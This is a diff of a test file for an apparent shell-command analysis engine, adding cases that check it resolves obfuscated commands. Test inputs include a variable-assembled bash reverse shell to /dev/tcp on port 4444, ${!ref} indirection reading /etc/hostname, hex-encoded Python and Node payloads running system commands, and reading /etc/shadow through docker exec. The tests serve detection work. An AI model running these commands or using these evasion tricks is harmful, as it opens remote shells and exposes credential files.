@@ -118,6 +118,22 @@ describe('CommandView', () => {
     expect(got).toEqual(expected);
   });
 
+  it('reads a redirection target the grammar splits after a `$` as one word', async () => {
+    const engine = await getEngine();
+    const bash = engine.view('h=203.0.113.9;p=4444;d=/dev/tcp;bash -i >& $d/$h/$p 0>&1').commands.find((c) => c.name === 'bash')!;
+    expect(bash.redirects[0]).toMatchObject({ target: '/dev/tcp/203.0.113.9/4444', dynamic: false });
+    const unknown = engine.view('bash -i >& /dev/tcp/$H/$P 0>&1').commands[0]!;
+    expect(unknown.redirects[0]).toMatchObject({ target: '/dev/tcp/$H/$P', dynamic: true });
+  });
+
+  it('follows ${!ref} indirection and names the running shell', async () => {
+    const engine = await getEngine();
+    expect(engine.view('c=cat;p=/etc/hostname;r=c;q=p;${!r} ${!q}').commands[0]!.argv).toEqual(['cat', '/etc/hostname']);
+    expect(engine.view("${0#-} -c 'id'").commands.map((c) => c.argv.join(' '))).toEqual(['sh -c id', 'id']);
+    expect(engine.view("$SHELL -c 'id'").commands.map((c) => c.argv.join(' '))).toEqual(['sh -c id', 'id']);
+    expect(engine.view('echo ${!undefined_ref}').commands[0]!.dynamic[1]).toBe(true);
+  });
+
   it('keeps a lone - before a heredoc, which the grammar drops', async () => {
     const engine = await getEngine();
     expect(engine.view('kubectl apply -f - <<EOF\nkind: Pod\nEOF').commands[0]!.argv).toEqual(['kubectl', 'apply', '-f', '-']);
@@ -300,6 +316,8 @@ describe('commands carried in option values', () => {
     ["tar -I 'sh -c id' -cf x.tar .", 'exec-arg:sh -c id'],
     ["man -P 'sh -c id' ls", 'exec-arg:sh -c id'],
     ["sqlite3 /dev/null '.shell cat /etc/hostname'", 'exec-arg:cat /etc/hostname'],
+    [`python3 -c "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827636174202f6574632f686f73746e616d652729'))"`, 'interpreter:cat /etc/hostname'],
+    [`node -e "eval(Buffer.from('7265717569726528276368696c645f70726f6365737327292e6578656353796e632827636174202f6574632f686f73746e616d652729', 'hex').toString())"`, 'interpreter:cat /etc/hostname'],
     [`ELECTRON_RUN_AS_NODE=1 /Applications/Slack.app/Contents/MacOS/Slack -e "require('child_process').exec('cat /etc/hostname')"`, 'interpreter:cat /etc/hostname'],
     [`osascript -e 'tell application "System Events" to keystroke "cat /etc/hostname" & return'`, 'exec-arg:cat /etc/hostname'],
     ["docker exec -u root db cat /etc/shadow", 'remote:cat /etc/shadow'],
